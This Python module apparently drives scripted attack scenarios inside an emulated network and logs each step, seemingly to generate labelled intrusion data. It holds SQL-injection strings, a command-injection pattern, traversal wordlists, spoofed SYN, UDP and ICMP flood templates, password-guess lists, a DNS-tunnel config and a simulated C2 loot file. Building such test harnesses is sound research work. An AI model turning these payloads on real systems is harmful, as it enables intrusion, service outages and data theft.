"""The attack steps of scenarios: read from attacks.toml, filled in for this run, run in time."""

from __future__ import annotations

import random
import re
import shlex
import subprocess
import threading
import time
import tomllib
from pathlib import Path
from urllib.parse import quote

import servers
from hosts import HERE, HOME, INTRUDER, Net
from plan import ATTACK, address_of

LIMIT_SECONDS = 30
"""How long a step may take unless it says otherwise."""
COMMON_PATHS = Path("/usr/share/dirb/wordlists/common.txt")
WFUZZ = Path("/usr/share/wfuzz/wordlist")
SHELL_SIGNS = re.compile(r"^[;|&`%$\\]+.*(id|dir|ls|cat|netstat|ping|passwd)")
INJECTIONS = (
    "1'", '1"', "1)", "1 or 1=1", "1' or '1'='1", "1 and 1=2", "1 union select 1,2,3", "1 order by 9",
    "-1 union all select null", "1;select sqlite_version()", "1 and (select count(*) from sqlite_master)>0",
    "1 union select sql,2,3 from sqlite_master", "1 and randomblob(9999)", "1 having 1=1", "1'--", "1/**/and/**/1=1",
    "(select 1)", "1 and substr(sqlite_version(),1,1)=3",
)  # fmt: skip

_TRAFGEN = {
    "synflood": "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa={attacker}, da={web}), "
    "tcp(sp=drnd(), dp={http}, seq=drnd(), win=29200, syn) }}\n"
    "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=128, sa=drnd(), da={files}), "
    "tcp(sp=drnd(), dp={ssh}, seq=drnd(), win=1024, syn) }}\n",
    "synspray": "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa={attacker}, da={files}), "
    "tcp(sp=drnd(), dp=drnd(), seq=drnd(), win=8192, syn) }}\n"
    "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=128, sa=drnd(), da={web}), "
    "tcp(sp=drnd(), dp=drnd(), seq=drnd(), win=64240, syn) }}\n",
    "synburst": "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), df, ttl=57, sa={attacker}, da={web}), "
    "tcp(sp=drnd(), dp={https}, seq=drnd(), win=64240, syn), drnd(20) }}\n",
    "udpflood": "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa={attacker}, da={files}), "
    "udp(sp=drnd(), dp=123), fill(0x41, 400) }}\n"
    "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa=drnd(), da={web}), "
    "udp(sp=drnd(), dp=drnd()), drnd(64) }}\n",
    "icmpflood": "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa=drnd(), da={shell}), "
    "icmp4(echorequest, id=drnd(), seq=drnd()), drnd(120) }}\n",
}


def scenarios() -> dict[str, dict]:
    """All scenarios by name."""
    return tomllib.loads((HERE / "attacks.toml").read_text())


def _write(name: str, text: str) -> str:
    path = HOME / name
    path.write_text(text)
    path.chmod(0o644)
    return str(path)


def _listed(path: str, name: str, rng: random.Random, most: int, fits: re.Pattern[str] | None = None) -> str:
    """A file of at most so many lines of one of wfuzz's lists, encoded for a URL."""
    lines = [line for line in (WFUZZ / path).read_text(errors="replace").splitlines() if line and "FUZZ" not in line]
    lines = [line for line in lines if fits is None or fits.match(line)]
    chosen = rng.sample(lines, min(most, len(lines)))
    return _write(name, "\n".join(quote(line, safe="/%.\\:;|&$`'()=*") for line in chosen) + "\n")


def values(plan: dict, python: str) -> dict[str, object]:
    """What {names} in a step's command stand for in this run; writes the word lists and files they name."""
    rng = random.Random(f"attack {plan['seed']}")
    named = ("web", "cdn", "files", "shell", "db", "mail", "plc", "dns", "c2", "attacker")
    address = {name: address_of(plan, name) for name in named}
    user, password = sorted(plan["users"].items())[0]
    words = ("admin", "pass", "letmein", "qwerty", "summer", "root")
    guesses = [f"{word}{number}" for word in words for number in range(8)]
    rng.shuffle(guesses)
    accounts = ["root", "admin", "test", "oracle", "guest", *plan["users"]]
    known = COMMON_PATHS.read_text(errors="replace").split()
    paths = [*rng.sample(known, min(450, len(known))), "admin", "app", "robots.txt", "assets", "docs", "news"]
    loot = HOME / "loot.bin"
    loot.write_bytes(rng.randbytes(24_000_000))
    loot.chmod(0o644)
    secret = f"key{rng.randrange(10**6)}"
    host = plan["hosts"][-2]
    flood = {"mac": host["gateway_mac"], "own": host["mac"], **address, **plan["ports"]}
    return {
        **address, **plan["ports"], **plan["prefixes"],
        "mqtt_host": address_of(plan, "mqtt"), "gateway_mac": host["gateway_mac"], "python": python,
        "here": HERE / "tools", "home": HOME, "user": user, "password": password, "secret": secret,
        "tunnel_domain": plan["tunnel_domain"], "loot": loot,
        "c2_http": rng.choice((80, 8080, 8000)), "c2_https": rng.choice((443, 8443, 4433)),
        "users": _write("accounts.txt", "\n".join(rng.sample(accounts, 6)) + "\n"),
        "words": _write("words.txt", "\n".join([*guesses[:35], password]) + "\n"),
        "paths": _write("paths.txt", "\n".join(paths) + "\n"),
        "seed": plan["seed"],
        "commands": _listed("Injections/All_attack.txt", "commands.txt", rng, 60, SHELL_SIGNS),
        "climbs": _listed("vulns/dirTraversal-nix.txt", "climbs.txt", rng, 80),
        "ways_up": _listed("Injections/Traversal.txt", "ways-up.txt", rng, 70),
        "quotes": _listed("Injections/SQL.txt", "quotes.txt", rng, 90),
        "injections": _write("injections.txt", "\n".join(line.replace(" ", "%20") for line in INJECTIONS * 4) + "\n"),
        "dns2tcpd": _write(
            "dns2tcpd.conf",
            f"listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {plan['tunnel_domain']}\n"
            f"key = {secret}\nresources = http:127.0.0.1:9100\n",
        ),
        **{name: _write(f"{name}.cfg", text.format(**flood)) for name, text in _TRAFGEN.items()},
    }  # fmt: skip


def hosts_shared(steps: list[dict]) -> list[str]:
    """Which of the benign users' hosts the intruder uses as well."""
    return sorted({step.get("on", "attacker") for step in steps} - set(ATTACK))


def command_of(step: dict, known: dict[str, object]) -> list[str]:
    """The step's command, filled in."""
    return [word.format(**known) for word in shlex.split(step["command"])]


def _start(net: Net, step: dict, known: dict[str, object], number: str) -> subprocess.Popen:
    host = step.get("on", "attacker")
    seconds = str(step.get("seconds", LIMIT_SECONDS))
    group = 0 if host in ATTACK else INTRUDER
    command = ["timeout", "-k", "2", seconds, *command_of(step, known)]
    return net.spawn(host, command, f"attack-{number}-{step['tool']}-{host}", group=group)


def _serve(net: Net, step: dict, known: dict[str, object], number: str) -> None:
    rng = random.Random(net.plan["seed"])
    if step.get("service") == "ftp":
        servers.start_ftp(net, "c2", 21, rng)
    elif step.get("service") == "ssh":
        servers.start_ssh(net, "c2", 22, rng)
    else:
        net.spawn(step["on"], command_of(step, known), f"attack-{number}-{step['tool']}")


def _in_turn(net: Net, threat: str, steps: list[dict], known: dict[str, object], log: list[dict]) -> None:
    """Run one scenario's steps one after the other, those `beside` along with what follows them."""
    aside = []
    for number, step in enumerate(steps):
        time.sleep(step.get("wait", 0.5))
        entry = {"threat": threat, "tool": step["tool"], "on": step.get("on", "attacker"), "start": time.time()}
        entry["command"] = " ".join(command_of(step, known))
        log.append(entry)
        process = _start(net, step, known, f"{threat}-{number}")
        if step.get("beside"):
            aside.append((process, entry))
        else:
            entry["status"], entry["end"] = process.wait(), time.time()
    while any("end" not in entry for _, entry in aside):
        for process, entry in aside:
            if "end" not in entry and process.poll() is not None:
                entry["status"], entry["end"] = process.returncode, time.time()
        time.sleep(0.2)
    time.sleep(1.5)


def carry_out(net: Net, chosen: dict[str, list[dict]], known: dict[str, object]) -> list[dict]:
    """Run the steps of one or more threats; returns what ran where and when, in Unix time.

    Threats run side by side as far as they use different hosts: a host serves one of them at a time, so that what its
    intruder does at a moment has one name.
    """
    log: list[dict] = []
    for threat, steps in chosen.items():
        for number, step in enumerate(step for step in steps if step.get("serve")):
            _serve(net, step, known, f"{threat}-serve-{number}")
            log.append({"threat": threat, "tool": step["tool"], "on": step["on"], "serve": True, "start": time.time()})
    time.sleep(1.5)
    free = {name: threading.Lock() for name in net.hosts}

    def lane(threat: str, steps: list[dict]) -> None:
        mine = [free[name] for name in sorted({step.get("on", "attacker") for step in steps})]
        for lock in mine:
            lock.acquire()
        try:
            _in_turn(net, threat, steps, known, log)
        finally:
            for lock in mine:
                lock.release()

    lanes = []
    for threat, steps in chosen.items():
        active = [step for step in steps if not step.get("serve")]
        lanes.append(threading.Thread(target=lane, args=(threat, active)))
        lanes[-1].start()
    for thread in lanes:
        thread.join()
    for entry in log:
        entry.setdefault("end", time.time())
    return sorted(log, key=lambda entry: entry["start"])
